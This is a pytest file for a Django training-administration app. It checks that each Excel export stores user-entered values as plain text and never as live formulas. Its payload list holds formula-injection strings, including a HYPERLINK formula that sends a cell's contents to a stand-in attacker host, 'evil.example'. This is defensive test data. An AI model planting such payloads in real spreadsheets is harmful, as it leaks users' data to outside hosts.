"""Every export writes user text as text: a cell typed as a formula comes back as those characters.

Each export is driven the way a user takes it (page or command) with values that Excel
would otherwise run as formulas, and the file is read back with python-calamine and
searched for <f> (formula) elements in its sheet XML.
"""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from python_calamine import CalamineWorkbook

from skillaid.accounts.exports import export
from skillaid.accounts.models import AuditEntry, Channel
from tests.conftest import MASHAN
from tests.exports import export_bytes, formula_cells

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1", "-2+3", "@SUM(A1)"]


def assert_written_as_text(data: bytes, payloads=PAYLOADS) -> list[list[object]]:  # noqa: ANN001
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    cells = {c for row in rows for c in row}
    missing = [p for p in payloads if p not in cells]
    assert not missing, f"not read back as text: {missing}"
    assert formula_cells(data) == []
    return rows


def test_the_export_function_writes_text_as_text_numbers_as_numbers_dates_as_dates(wei, tmp_path):
    out = tmp_path / "x.xlsx"
    count = export(
        ["文字", "数字", "日期", "是否"],
        [[p, 3, dt.date(2026, 3, 1), True] for p in PAYLOADS],
        target=out,
        title="测试导出（导出于 2026-03-01）",
        actor=wei,
        channel=Channel.PAGE,
        object_type="people.person",
    )
    rows = assert_written_as_text(out.read_bytes())
    assert count == 4 and rows[0][0] == "测试导出（导出于 2026-03-01）"
    assert rows[1] == ["文字", "数字", "日期", "是否"]
    assert rows[2][1:] == [3.0, dt.date(2026, 3, 1), "是"]
    entry = AuditEntry.objects.get(action="export", object_type="people.person")
    assert entry.actor == wei and entry.changes["rows"] == [None, 4]


def test_the_ledger_page_and_command_write_text_as_text(client, wei, person_factory, tmp_path):
    person_factory(
        township=PAYLOADS[0],
        village=PAYLOADS[1],
        training_occupations=PAYLOADS[2],
        relation=PAYLOADS[3],
    )
    client.force_login(wei)
    assert_written_as_text(export_bytes(client.get(reverse("ledger_export"))))
    out = tmp_path / "ledger.xlsx"
    call_command("export_ledger", str(out), "--user", "wei")
    assert_written_as_text(out.read_bytes())


def test_the_institution_export_writes_text_as_text(client, qin):
    from skillaid.institutions.models import Institution

    Institution.objects.create(
        name=PAYLOADS[0],
        kind="training_institution",
        region_id=MASHAN,
        address=PAYLOADS[1],
        contact=PAYLOADS[2],
        phone=PAYLOADS[3],
    )
    client.force_login(qin)
    assert_written_as_text(export_bytes(client.get(reverse("institution_export"))))


def test_the_capacity_export_writes_text_as_text(client, wei):
    from skillaid.institutions.models import Capacity

    Capacity.objects.create(
        kind="assessment_norm",
        name=PAYLOADS[0],
        region_id=MASHAN,
        year=2026,
        occupations=PAYLOADS[1],
        master=PAYLOADS[2],
        results=PAYLOADS[3],
    )
    client.force_login(wei)
    assert_written_as_text(export_bytes(client.get(reverse("capacity_export"))))


def test_the_pairing_export_writes_text_as_text(client, pairings, wei):
    from skillaid.pairings.models import Pairing

    pairing = Pairing.objects.filter(county_id=MASHAN).first()
    pairing.school.name = PAYLOADS[0]
    pairing.school.save()
    client.force_login(wei)
    assert_written_as_text(export_bytes(client.get(reverse("pairing_export"))), [PAYLOADS[0]])


def test_the_catalogue_export_writes_text_as_text(client, qin, entry):
    entry.occupation.name = PAYLOADS[0]
    entry.occupation.code = PAYLOADS[2]
    entry.occupation.save()
    client.force_login(qin)
    assert_written_as_text(
        export_bytes(client.get(reverse("catalogue_export"))), [PAYLOADS[0], PAYLOADS[2]]
    )


def test_the_class_export_writes_text_as_text(client, lu, school, class_factory):
    from skillaid.training.models import TrainingClass

    c = class_factory(lu, approve=False)
    TrainingClass.objects.filter(pk=c.pk).update(name=PAYLOADS[0])
    client.force_login(lu)
    assert_written_as_text(export_bytes(client.get(reverse("class_export"))), [PAYLOADS[0]])


def test_the_lifelong_record_writes_text_as_text(client, wei, person_factory, occupation):
    from skillaid.evaluation.models import Certificate

    person = person_factory()
    Certificate.objects.create(
        number="Y000001",
        kind="skill_level",
        person=person,
        holder_name=person.name,
        occupation=occupation,
        occupation_name=PAYLOADS[1],
        level="5",
        issuer=PAYLOADS[0],
        issued_on=dt.date(2025, 5, 1),
    )
    client.force_login(wei)
    data = export_bytes(client.get(reverse("person_record", args=[person.pk])))
    assert_written_as_text(data, [PAYLOADS[0]])
    assert AuditEntry.objects.filter(
        action="export", object_type="lifelong_record", person_id=person.pk
    ).exists()


@pytest.mark.django_db(transaction=True)
def test_the_rejected_rows_report_writes_text_as_text(client, wei, tmp_path, settings):
    from skillaid.accounts.jobs import Job
    from tests.people.sheets import xlsx

    settings.MEDIA_ROOT = tmp_path / "media"
    path = xlsx(
        tmp_path / "台账.xlsx",
        [["", "450124199001011234", PAYLOADS[0], PAYLOADS[1], PAYLOADS[2], PAYLOADS[3]]],
        headers=["姓名", "身份证号", "乡镇", "村", "意向工种", "与户主关系"],
    )
    client.force_login(wei)
    with path.open("rb") as upload:
        client.post(reverse("import_start"), {"file": upload, "county": MASHAN})
    job = Job.objects.get(owner=wei)
    assert job.result["rejected"] == 1
    assert_written_as_text(export_bytes(client.get(reverse("job_report", args=[job.pk]))))
